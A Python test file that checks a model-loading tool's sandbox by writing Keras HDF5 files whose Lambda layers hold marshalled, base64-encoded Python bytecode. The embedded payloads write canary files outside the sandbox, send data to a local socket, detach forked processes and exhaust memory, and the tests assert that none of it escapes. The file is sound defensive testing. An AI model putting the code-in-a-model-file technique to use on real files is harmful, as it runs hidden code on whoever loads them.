"""Hostile files in real frameworks, behind the wall: nothing gets out, no verdict is changed."""

from __future__ import annotations

import json
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import h5py
import psutil
import pytest

from caniload.runner.sandbox import walls

pytest_plugins = ["real_home"]
pytestmark = pytest.mark.real

OLD, NEW = "tf-2.4", "tf-2.16"
"""Both run the bytecode that a Lambda layer of an HDF5 file holds."""
CONTAINER = "container"

WAITS = """
import base64, marshal, sys

def attack(x):
    import os, time
    if os.fork() == 0:
        os.setsid()
        os.fork()
    while True:
        with open("beat", "w") as file:
            file.write("x")
        time.sleep(0.1)

sys.stdout.write(base64.b64encode(marshal.dumps(attack.__code__)).decode())
"""
GROWS = """
import base64, marshal, sys

def attack(x):
    import time
    held = []
    while True:
        held.append(bytearray(b"x" * 2**26))
        time.sleep(0.01)

sys.stdout.write(base64.b64encode(marshal.dumps(attack.__code__)).decode())
"""

ATTACK = """
import base64, marshal, sys

def attack(x):
    import os, socket
    for path in {canaries!r}:
        try:
            with open(path, "a") as file:
                file.write("out")
        except OSError:
            pass
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            one = socket.socket(socket.AF_INET, kind)
            one.connect(("127.0.0.1", {port}))
            one.send(b"out")
        except OSError:
            pass
    with open("reached", "w") as file:
        file.write("x")
    return x

sys.stdout.write(base64.b64encode(marshal.dumps(attack.__code__)).decode())
"""


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder that everybody on this machine may write."""
    with tempfile.TemporaryDirectory() as folder:
        Path(folder).chmod(0o777)
        yield Path(folder)


def check(model: Path, environment: str, *more: str) -> dict[str, Any]:
    command = [sys.executable, "-m", "caniload", "check", str(model), "--envs", environment]
    done = subprocess.run(
        [*command, "--run", "--rerun", "--json", *more], capture_output=True, text=True, check=False
    )
    assert done.stdout, done.stderr
    (found,) = json.loads(done.stdout)
    return dict(found)


def written(path: Path, layers: Sequence[dict[str, Any]]) -> Path:
    """Write an HDF5 file of a Sequential model without weights."""
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "given"},
    }
    config = {
        "class_name": "Sequential",
        "config": {"name": "model", "layers": [first, *layers]},
    }
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config).encode()  # as h5py 2 wrote texts
        file.attrs["keras_version"], file.attrs["backend"] = b"2.4.0", b"tensorflow"
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = [layer["config"]["name"].encode() for layer in layers]
        weights.attrs["keras_version"], weights.attrs["backend"] = b"2.4.0", b"tensorflow"
        for layer in layers:
            weights.create_group(layer["config"]["name"]).attrs["weight_names"] = []
    return path


def hostile(path: Path, python: Path, attack: str, *, new: bool) -> Path:
    """Write a file whose Lambda layer runs the attack, as the Python of an environment has it."""
    said = subprocess.run([python, "-c", attack], capture_output=True, text=True, check=True)
    own: dict[str, Any] = {"name": "evil", "trainable": True, "dtype": "float32", "arguments": {}}
    if new:
        code = {"code": said.stdout, "defaults": None, "closure": None}
        own["function"] = {"class_name": "__lambda__", "config": code}
    else:
        own |= {"function": [said.stdout, None, None], "function_type": "lambda"}
        own |= {"module": "__main__", "output_shape": None, "output_shape_type": "raw"}
        own |= {"output_shape_module": None}
    return written(path, [{"class_name": "Lambda", "config": own}])


def containers() -> set[str]:
    """Return our containers that there are, running or not."""
    asked = ["podman", "ps", "--all", "--quiet", "--filter", "label=caniload"]
    return set(subprocess.run(asked, capture_output=True, text=True, check=True).stdout.split())


def or_skip(level: str, home: Path) -> None:
    """Leave a test out where a container cannot be had, with the reason."""
    if level == CONTAINER and (why := walls.of(CONTAINER, home / "walls").refusal) is not None:
        pytest.skip(why)


@pytest.mark.parametrize(
    ("environment", "level"), [(OLD, "auto"), (NEW, "auto"), (OLD, CONTAINER), (NEW, CONTAINER)]
)
def test_code_in_a_file_gets_nowhere_and_a_verdict_stays_what_it_is(
    environment: str, level: str, home: Path, tmp_path: Path, outside: Path
) -> None:
    or_skip(level, tmp_path)
    behind = ("--sandbox", level)
    expected = (CONTAINER,) if level == CONTAINER else ("bwrap", "landlock")
    plain = written(tmp_path / "plain.h5", [{"class_name": "ReLU", "config": {"name": "relu"}}])
    walled = check(plain, environment, *behind)
    free = check(plain, environment, "--sandbox", "none")
    assert walled["sandbox"]["level"] in expected
    assert free["sandbox"]["level"] == "none"
    for found in (walled, free):
        found["sandbox"] = None
        for answer in found["answers"]:
            answer["sandbox"] = answer["seconds"] = None
    assert walled == free
    inside = home / "environments" / environment
    canaries = [str(outside / "canary"), str(inside / "canary"), str(Path.home() / ".canary-out")]
    with socket.socket() as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        tcp.bind(("127.0.0.1", 0))
        tcp.listen(8)
        udp.bind(tcp.getsockname())
        attack = ATTACK.format(canaries=canaries, port=tcp.getsockname()[1])
        model = hostile(
            tmp_path / "evil.h5", inside / "bin" / "python", attack, new=environment == NEW
        )
        assert check(model, environment, *behind)["problem"]  # not without --trust
        found = check(model, environment, "--trust", *behind)
        (answer,) = found["answers"]
        assert answer["outcome"] in ("identical", "warning"), answer["reason"]  # it did run
        assert found["sandbox"]["level"] in expected
        assert not [one for one in canaries if Path(one).exists()]
        tcp.settimeout(0.0)
        udp.settimeout(0.0)
        with pytest.raises(BlockingIOError):
            tcp.accept()
        with pytest.raises(BlockingIOError):
            udp.recv(16)


def test_what_outgrows_its_memory_in_a_container_is_told_as_that(
    home: Path, tmp_path: Path
) -> None:
    or_skip(CONTAINER, tmp_path)
    python = home / "environments" / NEW / "bin" / "python"
    model = hostile(tmp_path / "grows.h5", python, GROWS, new=True)
    (answer,) = check(model, NEW, "--trust", "--sandbox", CONTAINER)["answers"]
    assert (answer["outcome"], "MiB" in answer["reason"]) == ("crash", True), answer


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
def test_no_container_outlives_a_runner_however_that_ends(
    number: signal.Signals, home: Path, tmp_path: Path
) -> None:
    or_skip(CONTAINER, tmp_path)
    python = home / "environments" / NEW / "bin" / "python"
    model = hostile(tmp_path / "waits.h5", python, WAITS, new=True)
    before = containers()
    command = [sys.executable, "-m", "caniload", "check", str(model), "--envs", NEW, "--run"]
    with (tmp_path / "said").open("wb") as said:
        runner = subprocess.Popen(
            [*command, "--rerun", "--trust", "--sandbox", CONTAINER], stdout=said, stderr=said
        )
        scratch = home / "checked" / f"scratch-{runner.pid}"
        try:
            end = time.monotonic() + 120
            while not list(scratch.glob("*/scratch/beat")) and time.monotonic() < end:
                time.sleep(0.1)
            assert containers() - before
        finally:
            runner.send_signal(number)
            runner.wait(60)
    end = time.monotonic() + 10
    while (left := _left(scratch, before)) and time.monotonic() < end:
        time.sleep(0.1)
    assert not left


def _left(scratch: Path, before: set[str]) -> list[str]:
    """Return containers that were not there before, and processes that are told of a folder."""
    named = [str(one) for one in psutil.process_iter() if _names(one, str(scratch))]
    return [*(containers() - before), *named]


def _names(process: psutil.Process, folder: str) -> bool:
    try:
        return any(folder in word for word in process.cmdline())
    except psutil.Error:
        return False
